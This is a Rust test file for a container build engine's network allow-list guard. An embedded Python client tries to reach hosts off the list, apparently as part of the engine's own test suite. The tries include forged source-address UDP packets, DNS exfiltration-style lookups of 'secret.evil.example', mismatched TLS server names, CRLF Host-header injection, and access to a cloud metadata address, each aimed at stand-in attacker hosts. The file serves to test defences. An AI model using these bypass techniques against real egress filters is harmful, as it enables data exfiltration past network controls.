//! What steps reach whose network is a list of hosts, counted at the servers: by name, by address, by datagrams, through other
//! servers, and with each guard taken away.

mod sources;

use std::{
    io::ErrorKind,
    net::{Ipv4Addr, SocketAddr, TcpListener},
    time::Duration,
};

use wharf_e2e::{
    TestEngine,
    engine::{How, busybox, script},
    internet::{GREETING, Internet, Seen},
};
use wharf_graph::{
    Container,
    build::{Edit, FILE_MODE},
    op::{Configure, ExecOptions, Network, ServiceOptions},
};
use wharf_hosts::Hosts;
use wharf_testkit::process::wait_for;

/// How long what was sent may take to be noted.
const PATIENCE: Duration = Duration::from_secs(10);

/// What every client in a step has: `get` says what came back, or which kind of failure.
const CLIENT: &str = r#"
import socket, ssl, struct, sys, urllib.request
context = ssl.create_default_context(cafile="/certificate.pem")
def tried(work):
    try:
        return work()
    except Exception as error:
        return type(error).__name__
def get(url):
    return tried(lambda: urllib.request.urlopen(url, timeout=5, context=context).read().decode())
def connect(host, port):
    return socket.create_connection((host, port), timeout=5)
def talk(host, port, text):
    def work():
        with connect(host, port) as it:
            it.sendall(text.encode())
            return it.recv(4096).decode()
    return tried(work)
def request(host, path="/"):
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\n\r\n"
def tls(host, port, name, text):
    def work():
        loose = ssl.create_default_context()
        loose.check_hostname = False
        loose.verify_mode = ssl.CERT_NONE
        with loose.wrap_socket(connect(host, port), server_hostname=name) as it:
            it.sendall(text.encode())
            return it.recv(4096).decode()
    return tried(work)
def send(host, port, data):
    def work():
        it = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        it.settimeout(0.5)
        it.sendto(data, (host, port))
        return len(it.recv(4096))
    return tried(work)
def raw(protocol, packet, host):
    def work():
        it = socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol)
        it.sendto(packet, (host, 0))
        return "sent"
    return tried(work)
def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    return ~(total + (total >> 16)) & 0xffff
def ping(host):
    echo = lambda sum: struct.pack("!2B3H", 8, 0, sum, 7, 1)
    return raw(socket.IPPROTO_ICMP, echo(checksum(echo(0))), host)
def forged(source, host, port):
    addresses = socket.inet_aton(source) + socket.inet_aton(host)
    head = struct.pack("!2B3H2BH", 0x45, 0, 29, 1, 0, 64, socket.IPPROTO_UDP, 0)
    return raw(socket.IPPROTO_RAW, head + addresses + struct.pack("!4H", port, port, 9, 0) + b"x", host)
def lookup(name):
    return tried(lambda: socket.gethostbyname(name))
def question(name):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!6H", 7, 256, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", 1, 1)
"#;

/// An engine, and the internet that it sees.
struct Setting {
    internet: Internet,
    engine: TestEngine,
}

impl Setting {
    fn new(how: How) -> Self {
        let internet = Internet::start(&["allowed.example", "a.below.example"]);
        let [allowed, evil] = [10, 11].map(|last| internet.address(last));
        for (name, address) in [
            ("allowed.example", allowed),
            ("a.below.example", internet.address(12)),
            ("shared.example", allowed),
            ("evil.example", evil),
            ("secret.evil.example", evil),
            ("loopback.below.example", Ipv4Addr::LOCALHOST),
            ("metadata.below.example", Ipv4Addr::new(169, 254, 169, 254)),
            ("private.below.example", internet.private(10)),
            ("host.below.example", internet.address(1)),
            ("step.below.example", Ipv4Addr::new(10, 88, 0, 1)),
        ] {
            internet.name(name, &[address]);
        }
        let engine = TestEngine::started(How {
            resolv_conf: Some(internet.resolv_conf()),
            ..how
        });
        Self { internet, engine }
    }

    fn without(guard: &str) -> Self {
        Self::new(How {
            without_guard: Some(guard.to_owned()),
            ..How::default()
        })
    }

    /// A step that reaches these hosts, with a client that does this. In it, `EVIL`, `ALLOWED`, `HOST` and `PRIVATE` are addresses.
    fn step(&self, hosts: &[&str], client: &str) -> Container {
        let hosts = Hosts::parse(hosts).expect("hosts");
        let mut container = Container::image("python:3.11-slim", None).with_network(Network::Hosts(hosts));
        for (path, text) in [
            ("/certificate.pem", self.internet.certificate.as_str()),
            ("/client.py", CLIENT),
        ] {
            container = container.edit(Edit::new_file(path, text.as_bytes(), Some(FILE_MODE), None));
        }
        let mut named = String::new();
        for (name, address) in [
            ("ALLOWED", self.internet.address(10)),
            ("EVIL", self.internet.address(11)),
            ("HOST", self.internet.address(1)),
            ("PRIVATE", self.internet.private(10)),
        ] {
            named += &format!("{name} = \"{address}\"\n");
        }
        let program = format!("exec(open('/client.py').read())\n{named}{client}");
        let args = ["python3", "-c", &program].map(str::to_owned);
        container.with_exec(&args, ExecOptions::default())
    }

    async fn says(&self, hosts: &[&str], client: &str) -> String {
        let step = self.step(hosts, client);
        self.engine
            .run()
            .stdout(&step)
            .await
            .expect("the client ends well")
    }
}

/// The list that most steps here have.
const LIST: [&str; 2] = ["allowed.example", "*.below.example:443"];

async fn reaches_its_list(runtime: &str) {
    let setting = Setting::new(How {
        runtime: runtime.to_owned(),
        ..How::default()
    });
    let client = r#"
for url in ["http://allowed.example/x", "https://allowed.example/", "https://a.below.example/", "http://allowed.example:8080/",
            "http://a.below.example/", "https://evil.example/", "http://below.example/"]:
    print(get(url))
print(open("/etc/resolv.conf").read(), end="")
"#;
    let said = setting.says(&LIST, client).await;
    let lines: Vec<_> = said.lines().collect();
    assert_eq!(
        lines[..4],
        [
            "this is allowed.example",
            "this is allowed.example",
            "this is a.below.example",
            "this is allowed.example:8080",
        ],
        "{said}"
    );
    for refused in &lines[4..7] {
        assert!(refused.ends_with("Error"), "{said}");
    }
    assert_eq!(lines[7], "nameserver 10.88.0.1", "{said}");
    let mut names = setting.internet.seen().names;
    names.sort();
    // Each once, however often the client asked, and no other at all.
    assert_eq!(names, ["a.below.example", "allowed.example"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_step_reaches_the_hosts_of_its_list_by_their_names_and_its_tls_is_with_themselves() {
    reaches_its_list("").await;
}

#[tokio::test(flavor = "multi_thread")]
async fn steps_of_another_runtime_are_held_to_their_list_too() {
    reaches_its_list("runc").await;
}

/// What is tried with the usual list, the guard that stops it, and whether it was seen to come through.
type Try = (&'static str, &'static str, fn(&Seen, &Internet) -> bool);

fn came_to(seen: &Seen, place: SocketAddr) -> bool {
    seen.connections.contains(&place) || seen.datagrams.contains(&place)
}

fn asked_evil(seen: &Seen, internet: &Internet) -> bool {
    let evil = internet.address(11);
    let asked_by_name = seen.requests.iter().any(|(_, host, _)| host.contains("evil"));
    asked_by_name
        || seen
            .connections
            .iter()
            .chain(&seen.datagrams)
            .any(|place| place.ip() == evil)
}

fn looked_up_evil(seen: &Seen, _: &Internet) -> bool {
    seen.names.iter().any(|name| name.contains("evil"))
}

fn came_to_private(seen: &Seen, internet: &Internet) -> bool {
    came_to(seen, (internet.private(10), 443).into())
}

/// From an address that is not the step's: to get past a filter that goes by addresses.
fn came_forged(seen: &Seen, internet: &Internet) -> bool {
    came_to(seen, (internet.address(11), 443).into())
}

const TRIES: [Try; 25] = [
    ("ping(EVIL)", "egress", |seen, internet| {
        seen.pings.contains(&internet.address(11))
    }),
    ("forged(ALLOWED, EVIL, 443)", "egress-none", came_forged),
    ("forged('10.88.0.1', EVIL, 443)", "egress-none", came_forged),
    ("lookup('secret.evil.example')", "egress-names", looked_up_evil),
    (
        "send('10.88.0.1', 53, question('secret.evil.example'))",
        "egress-names",
        looked_up_evil,
    ),
    (
        "send(EVIL, 53, question('secret.evil.example'))",
        "egress-names",
        looked_up_evil,
    ),
    (
        "talk(EVIL, 53, '\\0\\x25' + question('secret.evil.example').decode())",
        "egress-names",
        looked_up_evil,
    ),
    (
        "talk(EVIL, 80, request('allowed.example'))",
        "egress-connections",
        asked_evil,
    ),
    (
        "tls(EVIL, 443, 'allowed.example', request('allowed.example'))",
        "egress-connections",
        asked_evil,
    ),
    ("talk(EVIL, 2222, 'x')", "egress-connections", asked_evil),
    ("get('http://' + EVIL + '/')", "egress-connections", asked_evil),
    (
        "get('http://allowed.example/to/http://' + EVIL + '/')",
        "egress-connections",
        asked_evil,
    ),
    (
        "(lookup('private.below.example'), talk(PRIVATE, 443, 'x'))",
        "egress-connections",
        came_to_private,
    ),
    (
        "tls('private.below.example', 443, 'private.below.example', request('x'))",
        "egress-addresses",
        came_to_private,
    ),
    (
        "tls('allowed.example', 443, 'evil.example', request('evil.example'))",
        "egress-servers",
        asked_evil,
    ),
    (
        "tls('allowed.example', 443, None, request('evil.example'))",
        "egress-servers",
        asked_evil,
    ),
    (
        "talk('allowed.example', 443, request('evil.example'))",
        "egress-none",
        asked_evil,
    ),
    (
        "talk('allowed.example', 80, request('evil.example'))",
        "egress-servers",
        asked_evil,
    ),
    (
        "talk('allowed.example', 8080, request('evil.example'))",
        "egress-servers",
        asked_evil,
    ),
    (
        "talk('allowed.example', 80, request('x', 'http://evil.example/'))",
        "egress-none",
        asked_evil,
    ),
    (
        "talk('allowed.example', 80, request('allowed.example') + request('evil.example'))",
        "egress-servers",
        asked_evil,
    ),
    (
        "talk('allowed.example', 80, request('allowed.example\\r\\nHost: evil.example'))",
        "egress-servers",
        asked_evil,
    ),
    ("send(EVIL, 443, b'quic')", "egress", asked_evil),
    ("send(EVIL, 53, b'not a question of names')", "egress", asked_evil),
    ("send(ALLOWED, 443, b'quic')", "egress", |seen, _| {
        !seen.datagrams.is_empty()
    }),
];

#[tokio::test(flavor = "multi_thread")]
async fn nothing_comes_to_a_server_that_is_not_in_the_list() {
    let setting = Setting::new(How::default());
    let tries: Vec<_> = TRIES.iter().map(|(what, ..)| format!("print({what})")).collect();
    let mut run = setting.engine.run();
    let said = run.stdout(&setting.step(&LIST, &tries.join("\n"))).await.unwrap();
    let seen = setting.internet.seen();
    for (what, _, came_through) in TRIES {
        assert!(
            !came_through(&seen, &setting.internet),
            "{what}\n{said}\n{seen:#?}"
        );
    }
    // And the user was told.
    let notices = run.notices().await.join("\n");
    let evil = setting.internet.address(11);
    for what in [
        "secret.evil.example (its network is [\"allowed.example\", \"*.below.example:443\"])".to_owned(),
        format!("{evil}:80 "),
        format!("evil.example:443 at {}", setting.internet.address(10)),
        "allowed.example:443 by TLS that names no host".to_owned(),
        "allowed.example:443 without TLS".to_owned(),
        format!(
            "private.below.example, which is at {}, a private address",
            setting.internet.private(10)
        ),
    ] {
        assert!(
            notices.contains(&format!("the step may not reach {what}")),
            "{what}\n{notices}"
        );
    }
}

/// What has reached the servers since `before`.
fn since(before: &Seen, mut now: Seen) -> Seen {
    now.names.drain(..before.names.len());
    now.requests.drain(..before.requests.len());
    now.connections.drain(..before.connections.len());
    now.datagrams.drain(..before.datagrams.len());
    now.pings.drain(..before.pings.len());
    now
}

#[tokio::test(flavor = "multi_thread")]
async fn each_guard_is_what_stops_its_tries() {
    for guard in [
        "egress-names",
        "egress-connections",
        "egress-addresses",
        "egress-servers",
        "egress",
    ] {
        let setting = Setting::without(guard);
        for (what, _, came_through) in TRIES.iter().filter(|(_, of, _)| *of == guard) {
            let before = setting.internet.seen();
            let said = setting.says(&LIST, &format!("print({what})")).await;
            // What comes without a connection is noted a moment after the step has ended.
            let new = || since(&before, setting.internet.seen());
            let came = || came_through(&new(), &setting.internet).then_some(());
            assert!(
                wait_for(PATIENCE, came).is_some(),
                "{what} without {guard}: {said}\n{:#?}",
                new()
            );
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn no_name_leads_to_the_host_to_its_loopback_to_metadata_or_to_other_steps() {
    let setting = Setting::new(How::default());
    // On all addresses of the host.
    let listener = TcpListener::bind("0.0.0.0:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let hosts = [
        &format!("*.below.example:{port}"),
        "10.88.0.1",
        "127.0.0.1",
        "169.254.169.254",
        &setting.internet.address(1).to_string(),
    ];
    let client = format!(
        "for name in ['loopback.below.example', 'metadata.below.example', 'private.below.example', 'host.below.example', \
          'step.below.example', HOST, '10.88.0.1', '169.254.169.254']:\n    print(talk(name, {port}, 'x'))\n"
    );
    let said = setting.says(&hosts, &client).await;
    assert_eq!(said.lines().count(), 8);
    assert!(
        said.lines()
            .all(|line| line.ends_with("Error") || line == "gaierror" || line.is_empty()),
        "{said}"
    );
    assert_eq!(listener.accept().unwrap_err().kind(), ErrorKind::WouldBlock);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_name_leads_for_good_where_it_led_first() {
    let setting = Setting::new(How::default());
    let [first, then] = [10, 11].map(|last| setting.internet.address(last));
    setting.internet.name("turns.example", &[first, then]);
    let client = "print(lookup('turns.example'), lookup('turns.example'), get('http://turns.example/'))\n\
                  print(talk(EVIL, 80, request('turns.example')))";
    let said = setting.says(&["turns.example"], client).await;
    assert!(
        said.starts_with(&format!("{first} {first} this is turns.example\n")),
        "{said}"
    );
    assert!(!asked_evil(&setting.internet.seen(), &setting.internet), "{said}");
}

#[tokio::test(flavor = "multi_thread")]
async fn addresses_that_are_named_are_reached_and_so_are_names_that_lead_to_them() {
    let setting = Setting::new(How::default());
    let (evil, private) = (
        setting.internet.address(11).to_string(),
        setting.internet.private(10).to_string(),
    );
    let hosts = ["private.below.example", &private, &format!("{evil}:80")];
    let client = "print(get('http://private.below.example/'))\nprint(get('http://' + EVIL + '/'))\nprint(get('https://' + EVIL + '/'))";
    let said = setting.says(&hosts, client).await;
    let lines: Vec<_> = said.lines().collect();
    assert_eq!(
        lines[..2],
        ["this is private.below.example", &format!("this is {evil}")],
        "{said}"
    );
    assert!(lines[2].ends_with("Error"), "{said}");
}

#[tokio::test(flavor = "multi_thread")]
async fn protocols_in_which_the_server_speaks_first_work() {
    let setting = Setting::new(How::default());
    let (port, greeting) = GREETING;
    let client =
        format!("with connect('allowed.example', {port}) as it:\n    print(it.recv(100).decode().strip())");
    assert_eq!(setting.says(&LIST, &client).await.trim(), greeting.trim());
}

#[tokio::test(flavor = "multi_thread")]
async fn services_are_held_to_their_list_and_are_no_way_around_that_of_others() {
    let setting = Setting::new(How::default());
    let hosts = Network::Hosts(Hosts::parse(LIST).unwrap());
    let evil = setting.internet.address(11);
    let serve = format!(
        "mkdir /srv; wget -q -O /srv/allowed http://allowed.example/; wget -q -T 2 -O /srv/evil http://{evil}/; \
         exec httpd -f -p 80 -h /srv"
    );
    let serving = busybox()
        .with_network(hosts.clone())
        .configure(Configure::DefaultArgs(
            ["sh", "-c", &serve].map(str::to_owned).to_vec(),
        ))
        .configure(Configure::Expose("80/tcp".to_owned()))
        .as_service(ServiceOptions::default());
    let bound = busybox().with_network(hosts).with_service("it", &serving);
    let asks = format!(
        "wget -q -O - http://it/allowed; echo; wget -q -O - http://allowed.example/; echo; wget -q -O - http://it/evil; \
         wget -q -T 2 -O - http://{evil}/; true"
    );
    let said = setting.engine.run().stdout(&script(&bound, &asks)).await.unwrap();
    assert_eq!(said.trim(), "this is allowed.example\nthis is allowed.example");
    assert!(!asked_evil(&setting.internet.seen(), &setting.internet));
}

#[tokio::test(flavor = "multi_thread")]
async fn steps_with_other_lists_are_other_steps() {
    let setting = Setting::new(How::default());
    let client = "print(get('http://allowed.example/'), get('http://evil.example/'))";
    let said = setting.says(&["allowed.example"], client).await;
    assert_eq!(said.trim(), "this is allowed.example URLError");
    let said = setting.says(&["allowed.example", "evil.example"], client).await;
    assert_eq!(said.trim(), "this is allowed.example this is evil.example");
}
